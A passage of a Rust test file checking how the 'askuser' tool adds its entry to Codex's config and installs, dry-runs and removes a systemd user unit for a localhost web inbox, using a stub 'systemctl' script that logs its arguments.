args = [\"mcp\", \"--db\", \"/l.db\", \"--wait\", \"595\"]
tool_timeout_sec = 600
default_tools_approval_mode = \"approve\"
"
    );
    let again = home.setup(&["codex", "--db", "/l.db"]);
    assert_eq!(
        again.stdout.lines().next(),
        Some(
            "askuser setup codex: <home>/.codex/config.toml already has askuser's entry as it would be written; nothing was changed."
        )
    );
    assert_eq!(home.read(".codex/config.toml"), allowed);
}

/// A stand-in for `systemctl` on the `PATH` of `askuser setup inbox` (this
/// container has no systemd user instance): it writes each call's arguments
/// as a line of `calls`, and fails `show-environment` as systemd's own does
/// without a user bus when `no_bus`.
struct Systemctl {
    dir: tempfile::TempDir,
}

impl Systemctl {
    fn new(no_bus: bool) -> Self {
        let dir = tempfile::tempdir().expect("a temporary directory");
        let calls = dir.path().join("calls");
        let fail = if no_bus {
            "[ \"$2\" = show-environment ] && { echo 'Failed to connect to bus: No medium found' >&2; exit 1; }\n"
        } else {
            ""
        };
        let script = format!(
            "#!/bin/sh\necho \"$@\" >> '{}'\n{fail}exit 0\n",
            calls.display()
        );
        let path = dir.path().join("bin/systemctl");
        std::fs::create_dir_all(path.parent().expect("bin")).expect("bin");
        std::fs::write(&path, script).expect("the script");
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))
                .expect("executable");
        }
        Self { dir }
    }

    /// The `PATH` that finds it (and nothing else).
    fn path(&self) -> PathBuf {
        self.dir.path().join("bin")
    }

    /// Each call's arguments, in order, read once.
    fn calls(&self) -> Vec<String> {
        let calls = self.dir.path().join("calls");
        let text = std::fs::read_to_string(&calls).unwrap_or_default();
        let _ = std::fs::remove_file(calls);
        text.lines().map(str::to_owned).collect()
    }
}

/// The unit `askuser setup inbox` writes, for the default log.
const INBOX_UNIT: &str = "# askuser's web inbox, written by askuser setup inbox (askuser setup inbox --remove takes it away).
[Unit]
Description=askuser web inbox: answer an agent's questions in a browser

[Service]
ExecStart=<askuser> web --listen 127.0.0.1:8765 --token-file <home>/.local/share/askuser/web-token --db <home>/.local/share/askuser/log.db
Restart=on-failure

[Install]
WantedBy=default.target
";

#[test]
fn setup_inbox_s_dry_run_prints_the_unit_and_writes_nothing() {
    let home = Home::new();
    let nothing = tempfile::tempdir().expect("a directory");
    let run = home.setup_with(&[("PATH", nothing.path())], &["inbox", "--dry-run"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        format!("askuser setup inbox --dry-run: would write <home>/.config/systemd/user/askuser-inbox.service (nothing was written):
{INBOX_UNIT}It runs: <askuser> web --listen 127.0.0.1:8765 --token-file <home>/.local/share/askuser/web-token --db <home>/.local/share/askuser/log.db
Then setup would run systemctl --user daemon-reload and systemctl --user enable --now askuser-inbox.service; where no systemd user instance answers, it writes nothing and says to run the inbox yourself.
")
    );
    assert_eq!(home.files(), Vec::<String>::new());
}

#[test]
fn setup_inbox_writes_the_unit_and_starts_it_with_systemctl() {
    let home = Home::new();
    let systemctl = Systemctl::new(false);
    let path = systemctl.path();
    let run = home.setup_with(&[("PATH", &path)], &["inbox"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup inbox: wrote <home>/.config/systemd/user/askuser-inbox.service.
It runs: <askuser> web --listen 127.0.0.1:8765 --token-file <home>/.local/share/askuser/web-token --db <home>/.local/share/askuser/log.db
systemctl --user enable --now askuser-inbox.service: the inbox runs now, and from each login on.
Its secret link is http://127.0.0.1:8765/?token= followed by the contents of <home>/.local/share/askuser/web-token (readable by you only): open it once in your browser, which keeps it across restarts.
While it runs, a waiting askuser call shows its link, http://127.0.0.1:8765/, never its token.
To undo it: askuser setup inbox --remove
"
    );
    assert_eq!(
        home.redact(&home.read(".config/systemd/user/askuser-inbox.service")),
        INBOX_UNIT
    );
    assert_eq!(
        systemctl.calls(),
        [
            "--user show-environment",
            "--user daemon-reload",
            "--user enable --now askuser-inbox.service"
        ]
    );
    let again = home.setup_with(&[("PATH", &path)], &["inbox"]);
    assert_eq!(
        again.stdout.lines().next(),
        Some(
            "askuser setup inbox: <home>/.config/systemd/user/askuser-inbox.service is already as it would be written; it was left as it is."
        )
    );
    assert_eq!(
        systemctl.calls(),
        [
            "--user show-environment",
            "--user enable --now askuser-inbox.service"
        ]
    );
    assert_eq!(home.files(), [".config/systemd/user/askuser-inbox.service"]);
}

#[test]
fn setup_inbox_without_a_systemd_user_instance_writes_nothing_and_says_what_to_run() {
    let home = Home::new();
    let systemctl = Systemctl::new(true);
    let run = home.setup_with(&[("PATH", &systemctl.path())], &["inbox"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup inbox: no systemd user instance answers here (systemctl --user show-environment: Failed to connect to bus: No medium found), so nothing was written.
Run the inbox yourself and keep it running (a terminal or tmux window of its own, or your session's autostart): <askuser> web --listen 127.0.0.1:8765 --token-file <home>/.local/share/askuser/web-token --db <home>/.local/share/askuser/log.db
Its secret link is http://127.0.0.1:8765/?token= followed by the contents of <home>/.local/share/askuser/web-token (readable by you only): open it once in your browser, which keeps it across restarts.
While it runs, a waiting askuser call shows its link, http://127.0.0.1:8765/, never its token.
"
    );
    assert_eq!(systemctl.calls(), ["--user show-environment"]);
    assert_eq!(home.files(), Vec::<String>::new());
    let nothing = tempfile::tempdir().expect("a directory");
    let run = home.setup_with(&[("PATH", nothing.path())], &["inbox"]);
    assert_eq!(
        run.stdout.lines().next(),
        Some(
            "askuser setup inbox: no systemd user instance answers here (systemctl is not installed), so nothing was written."
        )
    );
    assert_eq!(home.files(), Vec::<String>::new());
}

#[test]
fn setup_inbox_remove_stops_disables_and_removes_the_unit() {
    let home = Home::new();
    let systemctl = Systemctl::new(false);
    let path = systemctl.path();
    let run = home.setup_with(&[("PATH", &path)], &["inbox"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    systemctl.calls();
    let dry = home.setup_with(&[("PATH", &path)], &["inbox", "--remove", "--dry-run"]);
    assert_eq!(
        dry.stdout,
        "askuser setup inbox --remove --dry-run: would run systemctl --user disable --now askuser-inbox.service, remove <home>/.config/systemd/user/askuser-inbox.service and run systemctl --user daemon-reload (nothing was changed).
"
    );
    assert_eq!(systemctl.calls(), Vec::<String>::new());
    assert_eq!(home.files(), [".config/systemd/user/askuser-inbox.service"]);
    let removed = home.setup_with(&[("PATH", &path)], &["inbox", "--remove"]);
    assert_eq!((removed.code, removed.stderr.as_str()), (0, ""));
    assert_eq!(
        removed.stdout,
        "askuser setup inbox --remove: stopped and disabled askuser-inbox.service, and removed <home>/.config/systemd/user/askuser-inbox.service.
A waiting askuser call now shows no inbox's link unless you run askuser web yourself.
"
    );
    assert_eq!(
        systemctl.calls(),
        [
            "--user show-environment",
            "--user disable --now askuser-inbox.service",
            "--user daemon-reload"
        ]
    );
    assert_eq!(home.files(), Vec::<String>::new());
    let again = home.setup_with(&[("PATH", &path)], &["inbox", "--remove"]);
    assert_eq!(
        again.stdout,
        "askuser setup inbox --remove: there is no <home>/.config/systemd/user/askuser-inbox.service; nothing was changed.
"
    );
    let host = home.setup(&["codex", "--remove"]);
    assert_eq!(
        (host.code, host.stderr.as_str()),
        (
            1,
            "askuser: --remove is for askuser setup inbox; to take askuser out of codex, remove askuser's entry from its configuration\n"
        )
    );
}
